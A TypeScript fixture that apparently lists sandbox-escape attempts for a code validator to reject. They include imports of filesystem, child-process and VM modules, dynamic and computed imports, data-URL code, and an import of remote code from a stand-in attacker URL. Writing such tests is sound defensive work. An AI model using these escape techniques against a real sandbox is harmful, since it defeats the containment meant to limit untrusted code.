import { atTop, evasion, type Evasion } from '../evasion.ts'

export const modulesEvasions: Evasion[] = [
  atTop('modules', 'a module of files', "import { readFileSync } from 'node:fs'"),
  atTop('modules', 'a module by its old name', "import fs from 'fs'"),
  atTop('modules', 'a module of processes', "import * as child from 'node:child_process'"),
  atTop('modules', 'a module of virtual machines', "import vm from 'node:vm'"),
  atTop('modules', 'a package that is not offered', "import axios from 'axios'"),
  atTop('modules', 'an import for its effect', "import 'node:worker_threads'"),
  atTop('modules', 'a file beside it', "import { x } from './other.ts'"),
  atTop('modules', 'a URL', "import x from 'https://evil.example/x.js'"),
  atTop('modules', 'code in a data URL', "import x from 'data:text/javascript,export default 1'"),
  atTop('modules', 'a re-export', "export { readFileSync } from 'node:fs'"),
  atTop('modules', 'a re-export of everything', "export * from 'node:os'"),
  atTop(
    'modules',
    'an inline type beside a value',
    "import { type Stats, statSync } from 'node:fs'",
  ),
  atTop('modules', 'the old import', "import fs = require('node:fs')"),
  atTop('modules', 'native code through an engine', "import { setEngine } from 'node:crypto'"),
  atTop('modules', 'the call stack through util', "import { getCallSites as c } from 'node:util'"),
  evasion('modules', 'a dynamic import', "const fs = await import('node:fs')\nreturn String(fs)"),
  evasion(
    'modules',
    'a dynamic import by a computed name',
    "const n = 'node:' + 'fs'\nreturn String(await import(n))",
  ),
  evasion('modules', 'import.meta', 'return import.meta.url'),
]
